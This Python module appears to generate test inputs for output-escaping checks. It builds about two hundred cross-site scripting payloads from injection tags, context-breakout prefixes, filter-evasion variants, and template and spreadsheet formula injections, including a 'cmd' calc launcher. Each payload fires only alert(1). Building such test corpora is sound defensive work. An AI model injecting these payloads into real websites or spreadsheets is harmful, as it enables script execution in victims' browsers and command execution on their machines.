"""Two hundred texts that run a script where a page forgets to escape: by tag, by event, by breaking out of what surrounds them."""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"

TAGS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<iframe src=javascript:parent.{call}>",
    "<body onload={call}>",
    "<details open ontoggle={call}>x</details>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}>",
    "<video src=x onerror={call}>",
    "<audio src=x onerror={call}>",
    "<video><source onerror={call}></video>",
    "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>",
    "<math><mtext></mtext><img src=x onerror={call}></math>",
    "<a href=javascript:{call} autofocus onfocus={call}>x</a>",
    "<form action=javascript:{call}><button autofocus onfocus={call}>x</button></form>",
    "<marquee onstart={call}>x</marquee>",
    "<style>@import 'javascript:{call}';</style>",
    "<style>*{{background:url(javascript:{call})}}</style>",
    "<link rel=stylesheet href=javascript:{call}>",
    "<base href=javascript:{call}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<template><script>{call}</script></template><script>{call}</script>",
    "<img src=1 srcset=2 onerror={call}>",
    "<b style=animation-name:x onanimationstart={call}>x</b>",
    "<xss tabindex=1 autofocus onfocus={call}>x</xss>",
)
BREAKOUTS = (
    "{tag}",
    '"> {tag}',
    "'> {tag}",
    "</textarea>{tag}",
    "</title></style></script>{tag}",
    "--> {tag}",
)
OTHERS = (
    '" autofocus onfocus={call} x="',
    "' autofocus onfocus={call} x='",
    '" onmouseover={call} "',
    "`-{call}-`",
    "';{call}//",
    '";{call}//',
    "\\';{call}//",
    "</script><script>{call}</script>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "{{% raw %}}{{{{ {call} }}}}",
    "javascript:{call}",
    "[x](javascript:{call})",
    "![x](x){{onerror={call}}}",
    "<javascript:{call}>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\u003cscript\u003e{call}\u003c/script\u003e",
    "<scr\x00ipt>{call}</scr\x00ipt>",
    "<ScRiPt >{call}</sCrIpT >",
    "<script\n>{call}</script\t>",
    "<img/src=x/onerror={call}//",
    "<<script>{call}//<</script>",
    "<script src=data:text/javascript,{call}></script>",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("javascript:{call}")',
    "\u202e<script>{call}</script>",
    "\ufeff<script>{call}</script>",
)


def hostile_texts() -> list[str]:
    """Two hundred of them, all different."""
    made = [breakout.format(tag=tag.format(call=CALL)) for tag, breakout in product(TAGS, BREAKOUTS)] + [
        other.format(call=CALL) for other in OTHERS
    ]
    return list(dict.fromkeys(made))
